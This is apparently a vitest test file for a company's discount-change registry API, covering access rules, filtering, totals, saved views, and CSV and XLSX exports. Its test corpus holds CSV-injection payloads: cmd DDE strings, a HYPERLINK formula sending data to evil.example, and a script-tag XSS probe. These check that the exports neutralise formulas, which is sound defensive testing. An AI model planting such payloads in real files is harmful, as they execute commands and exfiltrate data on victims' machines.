import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type ServedCompany, servedCompany } from "../support/served-company.ts";
import { readWorkbook } from "../support/workbook.ts";

/** What spreadsheets would run, or trip over (OWASP, CSV injection). */
const CORPUS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  'a";=1+1;"',
  "a,=1+1",
  "<script>alert(1)</script>",
];

let company: ServedCompany;
beforeAll(async () => {
  company = await servedCompany();
  const admin = await company.person("admin-1", "administrator");
  for (const [at, title] of CORPUS.entries()) {
    const set = { title, discounts: { Bravante: at + 1 } };
    const made = await admin.call("POST", "/api/records/company", { set });
    expect(made.statusCode, made.body).toBe(200);
  }
  await company.settle();
});
afterAll(() => company.close());

const PATH = "/api/registries/discount-changes";
const get = async (path: string, user = "manager-1", headers: Readonly<Record<string, string>> = {}) =>
  (await company.person(user)).call("GET", `${PATH}${path}`, undefined, headers);
const where = (condition: unknown) => `where=${encodeURIComponent(JSON.stringify(condition))}`;

describe("rows", () => {
  test("are for the readers of the registry; for others there is none", async () => {
    expect((await get("?limit=1")).statusCode).toBe(200);
    for (const path of ["", "/totals", "/export.csv", "/export.xlsx", "/verification", "/views"])
      expect((await get(path, "engineer-1")).statusCode, path).toBe(404);
    const names = async (user: string) => {
      const { registries } = (await (await company.person(user)).call("GET", "/api/registries")).json();
      return registries.map(({ name }: { name: string }) => name);
    };
    expect(await names("manager-1")).toEqual(["discount-changes"]);
    expect(await names("accountant-1")).toEqual(["invoice-approvals"]);
    expect(await names("engineer-1")).toEqual([]);
    expect((await company.nobody.call("GET", PATH)).statusCode).toBe(401);
  });

  test("come with names and labels, page by page, filtered and sorted", async () => {
    const first = (await get(`?${where({ brand: "Bravante", result: "administrator" })}&sort=-after&limit=5`)).json();
    // Brands are a list of the catalog: one of them is chosen to filter by.
    const brand = first.columns.find(({ name }: { readonly name: string }) => name === "brand");
    expect(brand?.choices).toContainEqual({ value: "Montelira", title: "Montelira" });
    expect(first.columns).toContainEqual(
      expect.objectContaining({ name: "result", title: "Результат", type: "choice" }),
    );
    expect(first.rows.map(({ entry }: { entry: { after: number } }) => entry.after)).toEqual([12, 11, 10, 9, 8]);
    expect(first.rows[0]).toMatchObject({ by: null, process: "discount-guard", entry: { by: "admin-1" } });
    expect(first.names).toMatchObject({ "admin-1": "Тимур Сафин" });
    expect(Object.values(first.names)).toContain(CORPUS[11]);
    const next = encodeURIComponent(first.next);
    const second = (
      await get(`?${where({ brand: "Bravante", result: "administrator" })}&sort=-after&limit=50&after=${next}`)
    ).json();
    expect(second.rows).toHaveLength(7);
    const between = (await get(`?${where({ after: { atLeast: 3, atMost: 4 } })}`)).json();
    expect(between.rows).toHaveLength(2);
    const parts = (
      await get(`?within=${encodeURIComponent(JSON.stringify({ company: "company/", result: "ADMIN" }))}`)
    ).json();
    expect(parts.rows).toHaveLength(12);
    // Names of keys are not read, nor what stands in other columns.
    expect((await get(`?within=${encodeURIComponent('{"brand":"company"}')}`)).json().rows).toEqual([]);
    expect((await get(`?within=${encodeURIComponent('{"brand":7}')}`)).json().fields).toHaveProperty("within");
    const named = first.columns.find(({ name }: { readonly name: string }) => name === "company");
    expect(named?.records).toEqual(["company"]);
    expect((await get("?from=2030-01-01T00:00:00Z")).json().rows).toEqual([]);
    expect((await get("?where=%7B%22__proto__%22:1%7D")).json().fields).toHaveProperty("where");
  });

  test("sum up, by month and by column", async () => {
    const totals = (await get(`/totals?groupBy=result&${where({ brand: "Bravante" })}`)).json();
    expect(totals).toMatchObject({ count: 12, complete: true });
    expect(totals.groups).toMatchObject([{ key: "administrator", title: "Изменил администратор", count: 12 }]);
    const months = (await get("/totals?groupBy=month")).json();
    expect(months.groups).toMatchObject([{ key: "2026-11", title: "2026-11" }]);
  });

  test("are verified", async () => {
    const found = (await get("/verification")).json();
    expect(found).toMatchObject({ breaches: 0, erased: 0 });
    expect(found.sealed + found.unsealed).toBeGreaterThanOrEqual(12);
  });
});

describe("exports", () => {
  test("CSV: nothing in it is a formula, and it is the same rows", async () => {
    const answer = await get(`/export.csv?${where({ brand: "Bravante" })}`);
    expect(answer.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(answer.headers["content-disposition"]).toBe('attachment; filename="discount-changes.csv"');
    const [head, ...rows] = csvOf(answer.body.replace(/^\uFEFF/, ""), ",");
    const at = head?.indexOf("Компания") ?? -1;
    expect(rows).toHaveLength(12);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
    const titles = rows.map((row) => row[at]?.replace(/^'/, "")).sort();
    expect(titles).toEqual([...CORPUS].sort());
    const russian = await get("/export.csv", "manager-1", { "accept-language": "ru" });
    const [called, first] = csvOf(russian.body.replace(/^\uFEFF/, ""), ";");
    expect(called?.slice(0, 6)).toEqual([
      ...["№", "Когда (Europe/Moscow)", "Процесс", "Id процесса", "Шаг", "Кто записал"],
    ]);
    // No column is called as another one, times are the company's, and the request is the one that the screens name.
    expect(new Set(called).size).toBe(called?.length);
    const { rows: shown } = (await get("?limit=200")).json();
    const same = shown.find(({ number }: { readonly number: number }) => String(number) === first?.[0]);
    expect(first?.[2]).toBe(`${same.process}/${same.instanceNumber}`);
    const moscow = new Date(Date.parse(same.at) + 3 * 3_600_000).toISOString();
    expect(first?.[1]).toBe(moscow.slice(0, 19).replace("T", " "));
  });

  test("XLSX: opened again it holds the same, text as text and numbers as numbers", async () => {
    const answer = await get(`/export.xlsx?${where({ brand: "Bravante" })}&sort=after`);
    expect(answer.headers["content-type"]).toContain("spreadsheetml");
    const [head, ...rows] = readWorkbook(answer.rawPayload);
    const titles = Object.values(head ?? {}).map(({ value }) => value);
    expect(titles.slice(0, 1)).toEqual(["No."]);
    const column = (title: string) => Object.entries(head ?? {}).find(([, { value }]) => value === title)?.[0] ?? "";
    expect(rows).toHaveLength(12);
    for (const [index, row] of rows.entries()) {
      const shown = row[column("Компания")];
      expect(shown?.value.replaceAll("\r", "\n")).toBe(CORPUS[index]?.replaceAll("\r", "\n"));
      expect(shown?.type).toMatch(/^(s|inlineStr)$/);
      expect(row[column("Хотели, %")]).toEqual({ type: "n", value: String(index + 1), isFormula: false });
      expect(row[column("Кто")]?.value).toBe("Тимур Сафин");
      expect(Object.values(row).some(({ isFormula }) => isFormula)).toBe(false);
    }
  });
});

test("a view is its owner's, and others use it only where he shares it", async () => {
  const [owner, other] = await Promise.all(["manager-1", "manager-4"].map((user) => company.person(user)));
  if (owner === undefined || other === undefined) throw new Error("nobody");
  const save = (name: string, shared: boolean) =>
    owner.call("PUT", `${PATH}/views/${name}`, { filter: { where: '{"brand":"Delmoka"}' }, shared });
  expect((await save("mine", false)).statusCode).toBe(204);
  expect((await save("ours", true)).statusCode).toBe(204);
  const views = async (user: string) => (await get("/views", user)).json().views;
  expect(await views("manager-4")).toMatchObject([{ name: "ours", isOwn: false, owner: "Игорь Ладов", shared: true }]);
  expect((await other.call("DELETE", `${PATH}/views/ours`)).statusCode).toBe(404);
  expect((await owner.call("DELETE", `${PATH}/views/mine`)).statusCode).toBe(204);
  expect(await views("manager-1")).toMatchObject([{ name: "ours", isOwn: true }]);
});

/** A reader of CSV as spreadsheets have it. */
function csvOf(text: string, separator: string): readonly (readonly string[])[] {
  const rows: string[][] = [[""]];
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const [char, row] = [text[at] ?? "", rows.at(-1) ?? []];
    const last = row.length - 1;
    if (isQuoted && char === '"' && text[at + 1] === '"') row[last] += text[at++] ?? "";
    else if (char === '"') isQuoted = !isQuoted;
    else if (!isQuoted && char === separator) row.push("");
    else if (!isQuoted && char === "\r" && text[at + 1] === "\n") {
      rows.push([""]);
      at++;
    } else row[last] += char;
  }
  return rows.filter((row) => row.length > 1);
}
